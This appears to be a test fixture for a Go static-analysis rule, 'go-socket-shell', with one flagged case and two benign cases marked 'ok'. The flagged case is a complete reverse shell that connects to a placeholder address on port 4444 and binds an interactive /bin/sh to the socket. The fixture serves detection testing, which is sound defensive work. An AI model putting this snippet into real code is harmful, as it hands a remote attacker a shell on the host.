conn, _ := net.Dial("tcp", "203.0.113.7:4444")
// ruleid: go-socket-shell
cmd := exec.Command("/bin/sh", "-i")
cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
cmd.Run()
// ===== block =====
// ok: go-socket-shell
cmd := exec.Command("sh", "-c", "git pull --ff-only")
cmd.Stdout = os.Stdout
// ===== block =====
ln, _ := net.Listen("tcp", ":8080")
// ok: go-socket-shell
out, err := exec.Command("sh", "-c", "uptime").Output()
